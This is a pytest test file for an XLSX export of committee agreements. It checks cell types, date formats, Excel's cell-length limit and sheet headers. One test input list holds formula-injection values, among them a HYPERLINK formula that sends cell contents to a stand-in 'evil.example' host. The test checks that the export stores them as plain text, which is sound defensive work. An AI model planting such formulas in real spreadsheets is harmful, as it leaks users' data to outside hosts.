"""The XLSX's cells as a coordinator's spreadsheet reads them (openpyxl, as Excel would):
numbers as numbers, dates and moments as dates with their formats, every text as the
text typed (never a formula), cut only where Excel's cell limit of 32,767 characters
forces it, and an empty section still a sheet with its header."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from storage import agreements as agreement_store
from storage.db import Database
from tests import seed
from tests.dialog import ANNA, BEN, ROOM
from tests.export_data import render

# 08:00 UTC is 09:00 in Berlin in March.
AT = dt.datetime(2026, 3, 2, 8, 0, tzinfo=dt.UTC)
DUE = dt.date(2026, 7, 1)
TEXTS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "Einladung <Netzwerktreffen> & Protokoll",
    "  eingerückt, mit Leerzeichen am Ende  ",
    "Zeile eins\nZeile zwei",
    "12345",
    "2026-07-01",
    "",
)


def workbook(db: Database) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(render(db, "xlsx")))


def agreements_with(db: Database, *texts: str) -> None:
    with db.session() as s:
        seed.room(s, ROOM, joined_at=AT - dt.timedelta(days=30), name="Gremium")
        for n, text in enumerate(texts):
            seed.agreement(s, ROOM, text, by=ANNA, at=AT, owners=[BEN], due=DUE, event=f"$e{n}")


def test_numbers_are_numbers_and_dates_are_dates_in_the_export_s_time_zone(
    sqlite_db: Database,
) -> None:
    agreements_with(sqlite_db, "Bericht", "Einladung")
    with sqlite_db.session() as s:
        first = agreement_store.by_number(s, ROOM, 1)
        assert first is not None
        agreement_store.add_note(s, first, "liegt vor", actor=BEN, at=AT + dt.timedelta(hours=2))
    wb = workbook(sqlite_db)
    sheet = wb["Verabredungen"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[1].value for row in rows] == [1, 2]
    assert all(type(row[1].value) is int and row[1].data_type == "n" for row in rows)
    due, recorded = rows[0][6], rows[0][10]
    assert due.value == dt.datetime(2026, 7, 1)
    assert due.is_date
    assert due.number_format == "DD.MM.YYYY"
    assert recorded.value == dt.datetime(2026, 3, 2, 9, 0)
    assert recorded.is_date
    assert recorded.number_format == "DD.MM.YYYY HH:MM"
    assert rows[0][11].value is None  # not closed: an empty cell
    note = next(row for row in wb["Verlauf"].iter_rows(min_row=2) if row[7].value)
    assert note[2].value == dt.datetime(2026, 3, 2, 11, 0)
    assert note[2].number_format == "DD.MM.YYYY HH:MM"
    assert type(note[1].value) is int


def test_every_text_stays_the_text_typed_never_a_formula_or_number(sqlite_db: Database) -> None:
    agreements_with(sqlite_db, *TEXTS)
    raw = render(sqlite_db, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(raw))["Verabredungen"]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == list(TEXTS)
    assert all(c.data_type == "s" for c in cells)
    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    assert b"<f " not in sheet_xml


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("x" * 40_000, "x" * 32_767),
        ("x" * 32_767, "x" * 32_767),
        # Excel counts in UTF-16: an emoji is two, and is never cut in half.
        ("😀" * 20_000, "😀" * 16_383),
        ("x" * 32_766 + "😀", "x" * 32_766),
    ],
    ids=["40000-characters", "exactly-the-limit", "emojis", "emoji-at-the-limit"],
)
def test_a_text_longer_than_a_cell_holds_is_cut_at_excel_s_limit(
    sqlite_db: Database, typed: str, kept: str
) -> None:
    agreements_with(sqlite_db, typed)
    sheet = workbook(sqlite_db)["Verabredungen"]
    assert sheet["C2"].value == kept
    assert sheet["C2"].data_type == "s"
    assert sheet["D2"].value == "offen"  # the row goes on after the long text


def test_an_empty_section_is_a_sheet_with_its_bold_frozen_header(sqlite_db: Database) -> None:
    agreements_with(sqlite_db, "Bericht")
    wb = workbook(sqlite_db)
    meetings = wb["Sitzungen"]
    assert meetings.max_row == 1
    header = meetings[1]
    assert [c.value for c in header][:3] == ["Gremium", "Nummer", "Titel"]
    assert all(c.font.b for c in header)
    assert meetings.freeze_panes == "A2"
    assert not any(c.font.b for c in wb["Verabredungen"][2])


def test_the_sheets_declare_their_size_for_readers_that_stream(sqlite_db: Database) -> None:
    agreements_with(sqlite_db, "Bericht", "Einladung", "Protokoll")
    wb = openpyxl.load_workbook(io.BytesIO(render(sqlite_db, "xlsx")), read_only=True)
    agreements = wb["Verabredungen"]
    assert (agreements.max_row, agreements.max_column) == (4, 13)
    assert [len(row) for row in agreements.iter_rows(values_only=True)] == [13] * 4
    assert wb["Sitzungen"].max_row == 1
